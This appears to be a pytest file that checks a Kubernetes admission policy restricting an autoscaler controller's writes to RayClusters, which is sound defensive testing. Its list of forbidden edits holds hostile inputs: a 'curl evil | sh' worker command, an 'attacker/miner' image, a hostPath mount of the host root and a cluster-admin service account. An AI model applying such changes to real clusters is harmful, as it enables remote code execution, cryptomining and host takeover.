"""The chart's ValidatingAdmissionPolicy for the controller's RayCluster writes.

Rendered with both helms and validated with kubernetes-validate (1.30, the first release with the
GA API, and the newest schemas); then its CEL is evaluated with cel-python the way the API server
applies a policy (matchConditions, then every validation, an error counting as a denial under
failurePolicy Fail) on updates of a RayCluster that passes the KubeRay CRD's schema: the
controller's own patches (built by ``autoscaler.act.raycluster_patch``) must pass, everything else
the controller's ServiceAccount could write must not, and other users are not matched at all.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import celpy  # cel-python (a declared dependency) evaluates the policy's CEL
import jsonpatch
import kubernetes_validate
import pytest
import yaml

from autoscaler.act.raycluster_annotate import annotation_patch
from autoscaler.act.raycluster_patch import patch_ops
from autoscaler.core.policy.scaling import GroupDecision
from tests.chart.crd_schema import crd_validator
from tests.chart.helm import HELMS, NAMESPACE, RELEASE, render
from tests.support import objects as o
from tests.support.paths import REPO

VAP_API = ("admissionregistration.k8s.io/v1/ValidatingAdmissionPolicy",)
CONTROLLER_SA = f"system:serviceaccount:{NAMESPACE}:{RELEASE}-queuepilot-controller"


def _policy(helm: str = "helm3", sets: tuple[str, ...] = ()) -> tuple[dict, dict]:
    r = render(helm, sets, VAP_API)
    return r.one("ValidatingAdmissionPolicy"), r.one("ValidatingAdmissionPolicyBinding")


@pytest.mark.parametrize("helm", HELMS)
@pytest.mark.parametrize("k8s", ["1.30", "1.37"])
def test_policy_renders_and_validates(helm: str, k8s: str) -> None:
    policy, binding = _policy(helm)
    for doc in (policy, binding):
        kubernetes_validate.validate(doc, k8s, strict=True)
    assert binding["spec"]["policyName"] == policy["metadata"]["name"]
    assert binding["spec"]["validationActions"] == ["Deny"]
    assert policy["spec"]["failurePolicy"] == "Fail"
    # the matchCondition names the ServiceAccount the controller Deployment really runs as
    deploy = render(helm, (), VAP_API).one("Deployment", "-controller")
    sa = deploy["spec"]["template"]["spec"]["serviceAccountName"]
    (cond,) = policy["spec"]["matchConditions"]
    assert cond["expression"] == f'request.userInfo.username == "system:serviceaccount:{NAMESPACE}:{sa}"'


@pytest.mark.parametrize("helm", HELMS)
def test_policy_only_where_the_api_is_served_and_enabled(helm: str) -> None:
    assert "ValidatingAdmissionPolicy" not in render(helm).kinds()  # no admissionregistration VAP kind: skipped
    off = render(helm, ("controller.rayClusterWritePolicy.enabled=false",), VAP_API).kinds()
    assert "ValidatingAdmissionPolicy" not in off and "ValidatingAdmissionPolicyBinding" not in off
    _, warn = _policy(helm, ("controller.rayClusterWritePolicy.validationActions={Warn,Audit}",))
    assert warn["spec"]["validationActions"] == ["Warn", "Audit"]


# ------------------------------------------------------------------------------ CEL evaluation
class Policy:
    """The policy's CEL, compiled once, applied like the API server's admission plugin."""

    def __init__(self, spec: dict[str, Any]) -> None:
        env = celpy.Environment()

        def compile_(expr: str) -> Any:
            return env.program(env.compile(expr))

        self.match = [compile_(c["expression"]) for c in spec["matchConditions"]]
        self.variables = [(v["name"], compile_(v["expression"])) for v in spec["variables"]]
        self.validations = [(compile_(v["expression"]), v["message"]) for v in spec["validations"]]

    def review(self, operation: str, old: dict | None, new: dict | None, user: str = CONTROLLER_SA) -> list[str]:
        """Denial messages; [] = admitted. A matchCondition that is false means the policy does not apply."""
        request = {"operation": operation, "userInfo": {"username": user}}
        act: dict[str, Any] = {"request": celpy.json_to_cel(request),
                               "object": celpy.json_to_cel(new), "oldObject": celpy.json_to_cel(old)}
        if not all(_truth(p.evaluate(act)) for p in self.match):
            return []
        variables: dict[str, Any] = {}
        # the API server evaluates variables lazily: a failing one (object is null on DELETE) only
        # matters to a validation that reaches it, so leave it out here
        for name, prog in self.variables:
            try:
                variables[name] = _value(prog.evaluate(act))
            except Exception:
                continue
        act["variables"] = celpy.celtypes.MapType({celpy.celtypes.StringType(k): v for k, v in variables.items()})
        denied = []
        for prog, message in self.validations:
            try:
                ok = _truth(prog.evaluate(act))
            except Exception as exc:  # an error denies under failurePolicy Fail
                ok, message = False, f"error: {exc}"
            if not ok:
                denied.append(message)
        return denied


def _value(value: Any) -> Any:
    if isinstance(value, Exception):  # cel-python returns evaluation errors as values
        raise value
    return value


def _truth(value: Any) -> bool:
    return bool(_value(value))


@pytest.fixture(scope="module")
def policy() -> Policy:
    spec, _ = _policy()
    return Policy(spec["spec"])


@pytest.fixture(scope="module")
def raycluster(crds_dir: Path) -> dict:
    """A two-group, Kueue-managed, opted-in RayCluster that passes the KubeRay v1 CRD's schema."""
    rc = o.ray_cluster(
        "tuning", "team-a",
        groups=[
            o.ray_group("gpu", replicas=3, min_replicas=1, max_replicas=8, gpus=8,
                        workers_to_delete=["tuning-gpu-worker-gone"]),
            o.ray_group("cpu", replicas=2, min_replicas=0, max_replicas=4, gpus=0),
        ],
        labels={"kueue.x-k8s.io/queue-name": "team-a-queue"},
        annotations={"queuepilot.io/autoscale": "true", "kueue.x-k8s.io/elastic-job": "true",
                     "team.example.com/owner": "alice"},
    )
    rc["metadata"]["resourceVersion"] = "41"
    rc["metadata"]["uid"] = "0b6f3c1e-0000-4000-8000-000000000001"
    rc["metadata"]["finalizers"] = ["ray.io/gcs-ft-redis-cleanup-finalizer"]
    rc["spec"]["rayVersion"] = "2.60.0"
    rc.pop("status", None)
    validator = crd_validator(crds_dir / "kuberay" / "ray.io_rayclusters.yaml", "v1")
    errors = [e.message for e in validator.iter_errors(rc)]
    assert errors == [], errors
    return rc


def _decision(**kw: Any) -> GroupDecision:
    base = {"namespace": "team-a", "cluster": "tuning", "group": "gpu", "direction": "hold", "reason": "Test",
            "message": "", "current": 3, "desired": 3, "min_replicas": 1, "max_replicas": 8,
            "resource_version": "41"}
    return GroupDecision(**{**base, **kw})


def _patched(rc: dict, decision: GroupDecision) -> dict:
    ops = patch_ops(decision)
    assert ops is not None
    return jsonpatch.apply_patch(rc, ops)


CONTROLLER_WRITES: dict[str, Callable[[dict], dict]] = {
    "scale up": lambda rc: _patched(rc, _decision(direction="up", desired=5, write="replicas")),
    "scale down the idlest, by name": lambda rc: _patched(rc, _decision(
        direction="down", desired=1, write="replicas", workers_to_delete=("tuning-gpu-worker-a", "tuning-gpu-worker-b"))),
    "clear workersToDelete": lambda rc: _patched(rc, _decision(write="replicas", clear_workers_to_delete=True)),
    "in-tree autoscaler: min/max": lambda rc: _patched(rc, _decision(write="min_max", new_min=2, new_max=6)),
    "second group": lambda rc: _patched(rc, _decision(group="cpu", desired=4, current=2, write="replicas", group_index=1)),
    # the merge patch of autoscaler.act.raycluster_annotate (RFC 7386 on a dict without nulls: a deep update)
    "the recommendation annotation": lambda rc: _merged(rc, annotation_patch(
        "queuepilot.io/recommendation", '{"computed_at":"2026-12-01T04:00:00Z","groups":[]}')),
}


def _merged(rc: dict, patch: dict) -> dict:
    def merge(target: dict, p: dict) -> dict:
        out = copy.deepcopy(target)
        for k, v in p.items():
            out[k] = merge(out.get(k) or {}, v) if isinstance(v, dict) else v
        return out
    return merge(rc, patch)


def _edit(fn: Callable[[dict], None]) -> Callable[[dict], dict]:
    def apply(rc: dict) -> dict:
        new = copy.deepcopy(rc)
        fn(new)
        return new
    return apply


ALLOWED_EDITS: dict[str, Callable[[dict], dict]] = {
    "nothing": _edit(lambda rc: None),
    "drop workersToDelete entirely": _edit(lambda rc: rc["spec"]["workerGroupSpecs"][0].pop("scaleStrategy")),
}

FORBIDDEN_EDITS: dict[str, Callable[[dict], dict]] = {
    "worker image": _edit(lambda rc: rc["spec"]["workerGroupSpecs"][0]["template"]["spec"]["containers"][0].update(
        {"image": "attacker/miner:latest"})),
    "worker command": _edit(lambda rc: rc["spec"]["workerGroupSpecs"][0]["template"]["spec"]["containers"][0].update(
        {"command": ["sh", "-c", "curl evil | sh"]})),
    "worker hostPath volume": _edit(lambda rc: rc["spec"]["workerGroupSpecs"][0]["template"]["spec"].update(
        {"volumes": [{"name": "root", "hostPath": {"path": "/"}}]})),
    "worker service account": _edit(lambda rc: rc["spec"]["workerGroupSpecs"][0]["template"]["spec"].update(
        {"serviceAccountName": "cluster-admin-sa"})),
    "head pod template": _edit(lambda rc: rc["spec"]["headGroupSpec"]["template"]["spec"]["containers"][0].update(
        {"image": "attacker/head:latest"})),
    "rayStartParams": _edit(lambda rc: rc["spec"]["workerGroupSpecs"][0]["rayStartParams"].update({"num-gpus": "0"})),
    "idleTimeoutSeconds": _edit(lambda rc: rc["spec"]["workerGroupSpecs"][0].update({"idleTimeoutSeconds": 1})),
    "numOfHosts": _edit(lambda rc: rc["spec"]["workerGroupSpecs"][0].update({"numOfHosts": 4})),
    "suspend the cluster": _edit(lambda rc: rc["spec"].update({"suspend": True})),
    "turn on the in-tree autoscaler": _edit(lambda rc: rc["spec"].update({"enableInTreeAutoscaling": True})),
    "remove a spec field": _edit(lambda rc: rc["spec"].pop("rayVersion")),
    "add a worker group": _edit(lambda rc: rc["spec"]["workerGroupSpecs"].append(
        o.ray_group("extra", replicas=8, min_replicas=0, max_replicas=8, gpus=8))),
    "remove a worker group": _edit(lambda rc: rc["spec"]["workerGroupSpecs"].pop()),
    "rename a worker group": _edit(lambda rc: rc["spec"]["workerGroupSpecs"][1].update({"groupName": "cpu2"})),
    "duplicate one group over another": _edit(lambda rc: rc["spec"]["workerGroupSpecs"].__setitem__(
        1, copy.deepcopy(rc["spec"]["workerGroupSpecs"][0]))),
    "change the queue label": _edit(lambda rc: rc["metadata"]["labels"].update(
        {"kueue.x-k8s.io/queue-name": "other-team"})),
    "drop the queue label": _edit(lambda rc: rc["metadata"].pop("labels")),
    "mark it elastic for Kueue": _edit(lambda rc: rc["metadata"]["annotations"].update(
        {"kueue.x-k8s.io/elastic-job": "false"})),
    "add another queuepilot.io annotation": _edit(lambda rc: rc["metadata"]["annotations"].update(
        {"queuepilot.io/last-scale": "2026-12-01T04:00:00Z"})),
    "opt a cluster in to the annotation": _edit(lambda rc: rc["metadata"]["annotations"].update(
        {"queuepilot.io/annotate-recommendation": "true"})),
    "opt a cluster out of autoscaling": _edit(lambda rc: rc["metadata"]["annotations"].update(
        {"queuepilot.io/autoscale": "false"})),
    "drop the autoscale opt-in": _edit(lambda rc: rc["metadata"]["annotations"].pop("queuepilot.io/autoscale")),
    "the recommendation plus another key": _edit(lambda rc: rc["metadata"]["annotations"].update(
        {"queuepilot.io/recommendation": "{}", "queuepilot.io/idle-window": "1m"})),
    "remove a foreign annotation": _edit(lambda rc: rc["metadata"]["annotations"].pop("team.example.com/owner")),
    "remove the finalizer": _edit(lambda rc: rc["metadata"].pop("finalizers")),
    "add an owner": _edit(lambda rc: rc["metadata"].update({"ownerReferences": [
        {"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "u"}]})),
}


@pytest.mark.parametrize("name", sorted(CONTROLLER_WRITES))
def test_the_controllers_own_patches_pass(policy: Policy, raycluster: dict, name: str) -> None:
    new = CONTROLLER_WRITES[name](raycluster)
    assert new != raycluster  # the patch did change something
    assert policy.review("UPDATE", raycluster, new) == []


@pytest.mark.parametrize("name", sorted(ALLOWED_EDITS))
def test_allowed_edits_pass(policy: Policy, raycluster: dict, name: str) -> None:
    assert policy.review("UPDATE", raycluster, ALLOWED_EDITS[name](raycluster)) == []


@pytest.mark.parametrize("name", sorted(FORBIDDEN_EDITS))
def test_every_other_change_is_denied(policy: Policy, raycluster: dict, name: str) -> None:
    new = FORBIDDEN_EDITS[name](raycluster)
    assert new != raycluster
    denied = policy.review("UPDATE", raycluster, new)
    assert denied, f"{name} was admitted"
    assert all(m.startswith("queuepilot's controller may") for m in denied), denied
    # ... also when it rides along with a legitimate scale-up in the same write
    scaled = CONTROLLER_WRITES["scale up"](raycluster)
    assert policy.review("UPDATE", raycluster, FORBIDDEN_EDITS[name](scaled))


@pytest.mark.parametrize("name", sorted(FORBIDDEN_EDITS))
def test_other_users_are_not_matched(policy: Policy, raycluster: dict, name: str) -> None:
    operator = "system:serviceaccount:kuberay-system:kuberay-operator"
    assert policy.review("UPDATE", raycluster, FORBIDDEN_EDITS[name](raycluster), user=operator) == []
    # a look-alike in another namespace is someone else too
    assert policy.review("UPDATE", raycluster, FORBIDDEN_EDITS[name](raycluster),
                         user=CONTROLLER_SA.replace(NAMESPACE, "team-a")) == []


def test_create_and_delete_are_denied(policy: Policy, raycluster: dict) -> None:
    assert policy.review("CREATE", None, raycluster) == ["queuepilot's controller may update RayClusters, never create or delete them."]
    assert policy.review("DELETE", raycluster, None) == ["queuepilot's controller may update RayClusters, never create or delete them."]


def test_the_docs_describe_the_policy() -> None:
    text = (REPO / "docs" / "security.md").read_text()
    section = text[text.index("## Limiting the controller's RayCluster writes"):]
    for needle in ("ValidatingAdmissionPolicy", "rayClusterWritePolicy", "workersToDelete", "queuepilot.io/",
                   "1.30", "--api-versions"):
        assert needle in section, needle


def test_values_doc_and_rendered_yaml_agree() -> None:
    policy, _ = _policy()
    text = yaml.safe_dump(policy)
    assert "workerGroupSpecs" in text and "queuepilot.io/recommendation" in text
